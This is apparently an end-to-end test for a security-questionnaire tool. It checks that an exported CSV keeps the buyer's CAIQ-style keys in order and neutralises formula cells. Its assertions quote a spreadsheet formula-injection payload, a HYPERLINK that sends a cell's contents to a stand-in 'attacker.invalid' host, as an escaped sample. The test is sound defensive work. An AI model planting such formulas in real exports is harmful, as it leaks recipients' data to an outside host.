/**
 * A buyer's CSV questionnaire (CAIQ-style keys such as `A&A-01.1`, an instructions row, two questions
 * carrying spreadsheet formulas) imported on a new Security Questionnaire, auto-answered, one suggestion
 * accepted, saved and exported: the export keeps the buyer's keys in the buyer's order, drops the
 * instructions row and neutralises every formula-like cell.
 */
import path from 'node:path';
import { parseCsv } from 'c/questionnaireParser';
import fs from 'node:fs';
import type { PreviewFlow } from '../support/flow';
import { questionnaireRoundTrip } from '../support/questionnaireRoundTrip';

const FIXTURE = path.resolve(__dirname, '../fixtures/buyer-questionnaire.csv');

const flow: PreviewFlow = {
  name: 'a CSV questionnaire is imported, auto-answered, accepted, saved and exported',
  async run(context) {
    const { rows, acceptedKey } = await questionnaireRoundTrip(context, {
      path: FIXTURE,
      name: 'buyer-questionnaire.csv',
      format: 'CAIQ'
    });
    const buyerKeys = parseCsv(fs.readFileSync(FIXTURE, 'utf8'))
      .rows.slice(1)
      .map((row) => row[0] ?? '')
      .filter((key) => key !== '');

    const [header, ...body] = rows;
    expect(header?.[0]).toBe('Key');
    expect(body.map((row) => row[0])).toEqual(buyerKeys);
    expect(buyerKeys).toContain(acceptedKey);

    const cells = body.flat();
    const formulaCells = cells.filter((cell) => /^\s*[=+\-@]/.test(cell));
    expect(formulaCells).toEqual([]);
    expect(cells).toContain(
      '\'=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for the vendor portal")'
    );
    expect(cells).toContain("'@SUM(1+1) Do you assess your subprocessors' security?");

    const answered = body.filter((row) => row.some((cell, index) => index > 2 && cell.length > 40));
    expect(answered.length).toBeGreaterThan(0);
  }
};

export default flow;
